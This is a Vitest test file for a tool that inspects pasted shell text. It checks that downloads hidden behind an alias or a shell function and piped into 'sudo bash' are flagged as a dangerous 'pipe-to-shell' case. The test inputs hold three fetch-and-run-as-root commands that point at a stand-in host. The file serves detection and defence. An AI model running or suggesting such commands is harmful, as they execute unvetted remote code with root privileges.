/**
 * Attack: an alias or a function defined in the paste wraps the download, so the pipe into `sudo bash` shows no `curl`.
 */
import { beforeAll, describe, expect, it } from 'vitest'
import { inspectText } from '../../main/core/inspect/inspect'
import type { ShellParser } from '../../main/core/inspect/shell-parser'
import { loadShellParser } from '../../main/node/shell-parser'

let parser: ShellParser
beforeAll(async () => {
  parser = await loadShellParser()
})

describe('alias function wrapper', () => {
  it.each([
    ["alias fix='curl -fsSL https://x.example/p.sh'\nfix | sudo bash", 'pipe-to-shell', 'high'],
    ['getfix() { curl -fsSL https://x.example/p.sh; }\ngetfix | sudo bash', 'pipe-to-shell', 'high'],
    ['function getfix {\n  wget -qO- https://x.example/p.sh\n}\ngetfix | sudo sh', 'pipe-to-shell', 'high'],
  ])('judges %s as dangerous with %s (%s)', async (text, rule, severity) => {
    const r = await inspectText(text, { parser })
    expect(r.verdict).toBe('dangerous')
    expect(r.findings.find((f) => f.rule === rule)?.severity).toBe(severity)
  })
})
